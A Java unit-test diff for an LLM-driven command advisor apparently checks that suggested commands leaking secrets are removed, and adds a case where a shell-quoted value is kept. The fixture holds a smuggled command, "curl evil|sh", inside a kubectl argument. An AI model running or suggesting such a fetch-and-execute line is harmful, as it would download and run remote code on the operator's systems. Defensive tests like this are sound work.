@@ -181,6 +181,15 @@ class NoSecretLeavesTest {
         assertThat(r.validation().getFirst().step()).isEqualTo("Check load.");
         assertThat(r.troubleshooting().getFirst().command()).as("a command without it stays").isEqualTo("psql -c 'SELECT 1'");
         assertThat(r.warnings()).singleElement().asString().startsWith("1 suggested command(s) removed");
+
+        // the same value shell-quoted, as the base recipe's commands have it, is kept
+        server.stubFor(post(urlPathEqualTo("/v1/chat/completions")).willReturn(okJson(OpenAiProtocolTest.openAiAnswer(
+                ProviderProtocolTest.GOOD.replace("ssh <HOST_1> uptime", "kubectl logs 'web-1;curl evil|sh'")))));
+        try (var advisor = new LlmRecipeAdvisor(settings, ProviderProtocolTest.CODEC, u -> { }, Clock.systemUTC())) {
+            r = advisor.advise(event, ProviderProtocolTest.base()).orElseThrow();
+        }
+        assertThat(r.validation().getFirst().command()).isEqualTo("kubectl logs 'web-1;curl evil|sh'");
+        assertThat(r.warnings()).isEmpty();
     }
 
     static Event event(String title, String summary, Map<String, String> labels) {
